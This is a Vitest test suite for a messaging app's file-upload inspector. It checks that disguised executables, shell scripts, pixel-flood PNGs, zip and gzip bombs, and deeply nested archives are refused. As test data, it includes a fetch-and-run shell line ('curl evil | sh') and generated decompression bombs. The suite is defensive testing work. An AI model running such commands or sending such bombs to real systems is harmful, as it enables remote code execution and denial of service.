import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { DEFAULT_FILE_LIMITS, type FileLimits } from '@tidings/messaging/domain';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import {
  elfExecutable,
  nestedZip,
  overlappingZip,
  pngClaiming,
  realPng,
  zipOf,
  zipOfZeros,
} from '../testing/fixtures';
import { checkHead, inspectUpload } from './inspect-upload';

const dir = mkdtempSync(join(tmpdir(), 'tidings-inspect-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

let n = 0;
async function inspect(bytes: Buffer, name: string, limits: FileLimits = DEFAULT_FILE_LIMITS) {
  const path = join(dir, `f${n++}`);
  writeFileSync(path, bytes);
  return inspectUpload({ path, size: bytes.length, head: bytes.subarray(0, 4100) }, name, limits);
}
/** The stable code and details a refusal carries, or 'accepted'. */
async function verdict(bytes: Buffer, name: string, limits?: FileLimits) {
  return inspect(bytes, name, limits).then(
    () => 'accepted',
    (e: { code?: string; details?: unknown; message: string }) => {
      if (!e.code) throw e;
      return { code: e.code, details: e.details };
    },
  );
}

describe('type by content', () => {
  it('refuses an ELF executable named cute-cat.png — on its first 4 KiB already', async () => {
    const elf = elfExecutable();
    await expect(checkHead(elf.subarray(0, 4100), DEFAULT_FILE_LIMITS)).rejects.toMatchObject({
      code: 'messaging.file.type_refused',
      kind: 'unsupported_media_type',
      details: { detectedType: 'application/x-elf' },
    });
    expect(await verdict(elf, 'cute-cat.png')).toMatchObject({
      code: 'messaging.file.type_refused',
    });
  });

  it('refuses a shell script whatever its name, and keeps plain text', async () => {
    expect(await verdict(Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'notes.txt')).toMatchObject({
      code: 'messaging.file.type_refused',
    });
    const text = await inspect(Buffer.from('just notes\n'), 'notes.png');
    expect(text).toMatchObject({ mime: 'text/plain', extensionMismatch: true, image: null });
  });

  it('stores an image by its real type, with its size and a 320 px thumbnail', async () => {
    const jpeg = await sharp(await realPng(2000, 1000))
      .jpeg()
      .toBuffer();
    const result = await inspect(jpeg, 'holiday.png');
    expect(result).toMatchObject({
      mime: 'image/jpeg',
      detected: { ext: 'jpg' },
      extensionMismatch: true,
      image: { width: 2000, height: 1000 },
    });
    expect(await sharp(result.thumbnail!).metadata()).toMatchObject({
      format: 'webp',
      width: 320,
      height: 160,
    });
  });

  it('refuses a PNG whose header claims 100000×100000 pixels, before decoding it', async () => {
    const flood = pngClaiming(100_000, 100_000);
    expect(flood.length).toBeLessThan(2000);
    expect(await verdict(flood, 'wallpaper.png')).toEqual({
      code: 'messaging.file.pixel_flood',
      details: { width: 100_000, height: 100_000, maxPixels: 50_000_000 },
    });
    expect(await verdict(pngClaiming(5000, 5000), 'big.png')).toBe('accepted');
  });
});

describe('archives', () => {
  it('accepts an ordinary zip', async () => {
    const zip = await zipOf([
      ['readme.md', Buffer.from('# hello\n'.repeat(50))],
      ['src/index.ts', Buffer.from('export const x = 1;\n')],
    ]);
    expect(await inspect(zip, 'project.zip')).toMatchObject({ mime: 'application/zip' });
  });

  it('refuses 100 MB of zeros deflated to ~100 KB, whatever it is called', async () => {
    const bomb = await zipOfZeros(100);
    expect(bomb.length).toBeLessThan(200 * 1024);
    for (const name of ['photos.zip', 'report.docx', 'picture.png'])
      expect(await verdict(bomb, name)).toEqual({
        code: 'messaging.file.archive_bomb',
        details: { maxRatio: 100 },
      });
  });

  it('refuses a bomb hidden inside another zip', async () => {
    const outer = await zipOf([['inner.zip', await zipOfZeros(100)]]);
    expect(await verdict(outer, 'harmless.zip')).toMatchObject({
      code: 'messaging.file.archive_bomb',
    });
  });

  it('looks into nested archives whatever their names, and refuses them too deep', async () => {
    expect(await verdict(await nestedZip(3), 'three.zip')).toBe('accepted');
    expect(await verdict(await nestedZip(4), 'four.zip')).toEqual({
      code: 'messaging.file.archive_bomb',
      details: { maxDepth: 3 },
    });
    const disguised = await zipOf([['photo.jpg', await nestedZip(3)]]);
    expect(await verdict(disguised, 'x.zip')).toMatchObject({ details: { maxDepth: 3 } });
  });

  it('refuses entries sharing their data, and too many entries', async () => {
    expect(await verdict(overlappingZip(20, 1000), 'overlap.zip')).toEqual({
      code: 'messaging.file.archive_bomb',
      details: { overlapping: true },
    });
    const many = await zipOf(
      Array.from({ length: 60 }, (_, i) => [`f${i}.txt`, Buffer.from(`${i}`)] as [string, Buffer]),
    );
    expect(
      await verdict(many, 'many.zip', { ...DEFAULT_FILE_LIMITS, maxArchiveEntries: 50 }),
    ).toEqual({ code: 'messaging.file.archive_bomb', details: { maxEntries: 50 } });
  });

  it('refuses a gzip bomb by inflating it only up to the limit, and keeps an ordinary gzip', async () => {
    const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024));
    expect(await verdict(bomb, 'logs.gz')).toMatchObject({ code: 'messaging.file.archive_bomb' });
    const logs = gzipSync(Buffer.from('GET /index.html 200\n'.repeat(1000)));
    expect(await inspect(logs, 'logs.gz')).toMatchObject({ mime: 'application/gzip' });
  });

  it('refuses a zip it cannot read, since it cannot check it', async () => {
    const broken = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(200, 7)]);
    expect(await verdict(broken, 'broken.zip')).toMatchObject({
      code: 'messaging.file.archive_unreadable',
    });
  });
});
